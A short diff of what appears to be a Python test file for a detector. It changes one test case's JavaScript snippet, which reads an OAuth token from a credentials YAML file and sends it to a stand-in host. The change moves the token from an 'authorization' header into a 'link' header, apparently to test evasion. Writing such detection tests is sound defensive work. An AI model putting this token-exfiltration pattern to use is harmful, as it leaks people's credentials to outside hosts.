@@ -69,7 +69,7 @@ def python(body: str) -> set[str]:
         LINE + LINE_SENT,
         (
             "const e = yaml.parse(fs.readFileSync(GH, 'utf8'))['example.com'];"
-            " const r = await fetch('https://api.example.com/x', { headers: { authorization: e.oauth_token } });"
+            " const r = await fetch('https://api.example.com/x', { headers: { link: e.oauth_token } });"
         ),
     ],
 )
